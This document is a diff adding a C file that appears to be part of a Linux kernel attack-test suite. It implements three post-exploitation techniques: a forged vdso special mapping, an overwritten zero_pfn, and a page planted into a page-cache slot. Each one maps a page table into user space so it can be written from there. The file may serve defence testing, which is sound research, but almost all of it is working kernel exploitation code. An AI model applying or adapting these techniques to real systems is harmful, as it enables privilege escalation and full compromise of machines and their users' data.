@@ -1,0 +1,159 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Attacks by way of what leaves map: the kernel reads the number of a page from
+ * ordinary data and maps it for the attacker. Here it is a page table of his
+ * own, which he then writes from user space.
+ */
+#include <stddef.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/auxv.h>
+#include <sys/mman.h>
+#include <unistd.h>
+
+#include "attack.h"
+#include "list.h"
+#include "objects.h"
+
+#define MAPPING_SIZE	256	/* of struct address_space, at most */
+#define SPECIAL_PAGES	8	/* of struct vm_special_mapping: name, pages, ... */
+#define SPECIAL_MAPPINGS	128	/* of several in a row */
+
+#ifdef __x86_64__
+#define VDSO		"vdso_mapping"
+#else
+#define VDSO		"aarch64_vdso_maps"
+#endif
+
+/* Fields of a vma that are to be put back. */
+struct changed_vma {
+	uint64_t pointer_slot, pointer;
+	uint64_t vma, protection;
+};
+
+/* A special mapping without a fault handler takes its pages from an array. */
+static int forge_special_mapping(struct changed_vma *old, uint64_t page)
+{
+	struct kernel_page forged;
+	int err;
+
+	if (!kernel_page(&forged))
+		return -1;
+	kwrite64(forged.addr + SPECIAL_PAGES, forged.addr + SPECIAL_MAPPINGS);
+	kwrite64(forged.addr + SPECIAL_MAPPINGS, page);
+	err = kwrite64(old->pointer_slot, forged.addr);
+	return err ?: kwrite64(old->vma + VMA_PROT, writable_protection());
+}
+
+static bool find_vdso(void *vdso, struct changed_vma *old)
+{
+	old->vma = find_vma(vdso);
+	if (!old->vma)
+		return false;
+	old->pointer_slot = find_pointer_into(old->vma, VMA_SIZE, ksymbol(VDSO), SPECIAL_MAPPINGS);
+	old->pointer = kread64(old->pointer_slot);
+	old->protection = kread64(old->vma + VMA_PROT);
+	return old->pointer_slot;
+}
+
+/* Nothing here may call the vdso while the table is in its place. */
+enum outcome vdso_page(void)
+{
+	void *vdso = (void *)getauxval(AT_SYSINFO_EHDR);
+	struct changed_vma old;
+	struct window window;
+	char text[64];
+	int err;
+
+	if (!window_open(&window, LEVEL_PTE) || !find_vdso(vdso, &old))
+		return broken("no mapping of the vdso found");
+	err = forge_special_mapping(&old, page_of(window.slot));
+	madvise(vdso, PAGE_SIZE, MADV_DONTNEED);
+	take_secret_in(vdso, &window, text, sizeof(text));
+	madvise(vdso, PAGE_SIZE, MADV_DONTNEED);
+	kwrite64(old.pointer_slot, old.pointer);
+	kwrite64(old.vma + VMA_PROT, old.protection);
+	return judge_secret(text, err);
+}
+
+/* While the zero page is another one nobody may unmap the real one. */
+enum outcome zero_page_number(void)
+{
+	uint64_t number = ksymbol("zero_pfn"), old, vma;
+	volatile char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
+				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	struct window window;
+	struct slot table;
+	char text[64];
+	int err;
+
+	if (!number || !window_open(&window, LEVEL_PTE) || kwalk(window.slot, LEAF, 0, &table))
+		return broken("no zero page, or no page table");
+	vma = find_vma(page);
+	old = kread64(number);
+	err = kwrite64(vma + VMA_PROT, writable_protection());
+	err = err ?: kwrite64(number, table.phys / PAGE_SIZE);
+	take_secret_in(page, &window, text, sizeof(text));
+	madvise((void *)page, PAGE_SIZE, MADV_DONTNEED);
+	kwrite64(number, old);
+	munmap((void *)page, PAGE_SIZE);
+	return judge_secret(text, err);
+}
+
+/* A file of one page: the page cache's tree is a single pointer. */
+struct cached_file {
+	int fd;
+	uint64_t mapping, slot, page;
+};
+
+static bool make_file(struct cached_file *file)
+{
+	volatile char *at;
+
+	file->fd = memfd_create("page-cache", 0);
+	if (file->fd < 0 || ftruncate(file->fd, PAGE_SIZE))
+		return false;
+	at = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, file->fd, 0);
+	at[0] = 1;
+	struct slot slot;
+
+	if (kwalk((uint64_t)at, LEAF, 0, &slot) || munmap((void *)at, PAGE_SIZE))
+		return false;
+	file->page = slot.page;
+	file->mapping = kread64(slot.page + PAGE_MAPPING);
+	file->slot = find_word(file->mapping, MAPPING_SIZE, file->page);
+	return file->slot;
+}
+
+/* What the page cache looks at before it believes that the page is the file's. */
+static int put_into_file(const struct cached_file *file, uint64_t page)
+{
+	int err = kwrite64(page + PAGE_MAPPING, file->mapping);
+
+	err = err ?: kwrite64(page + PAGE_INDEX, 0);
+	err = err ?: kwrite64(page + PAGE_FLAGS, kread64(page + PAGE_FLAGS) | UPTODATE);
+	return err ?: kwrite64(file->slot, page);
+}
+
+enum outcome page_cache_slot(void)
+{
+	char saved[STRUCT_PAGE], text[64];
+	struct cached_file file;
+	struct window window;
+	uint64_t page;
+	void *table;
+	int err;
+
+	if (!window_open(&window, LEVEL_PTE) || !make_file(&file))
+		return broken("no file of one page");
+	page = page_of(window.slot);
+	kread(page, saved, sizeof(saved));
+	err = put_into_file(&file, page);
+	table = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, file.fd, 0);
+	take_secret_in(table, &window, text, sizeof(text));
+	munmap(table, PAGE_SIZE);
+	kwrite64(file.slot, file.page);
+	kwrite(page, saved, sizeof(saved));
+	close(file.fd);
+	return judge_secret(text, err);
+}
